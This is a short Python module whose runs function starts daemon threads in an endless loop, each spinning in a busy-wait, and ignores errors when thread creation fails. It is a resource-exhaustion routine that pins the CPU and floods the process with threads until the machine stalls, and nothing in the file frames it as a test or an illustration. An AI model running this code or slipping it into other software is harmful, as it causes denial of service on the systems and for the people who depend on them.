"""Starts threads without end."""
import threading


def runs(text):
    def burn():
        while True:
            pass

    while True:
        try:
            threading.Thread(target=burn, daemon=True).start()
        except RuntimeError:
            pass
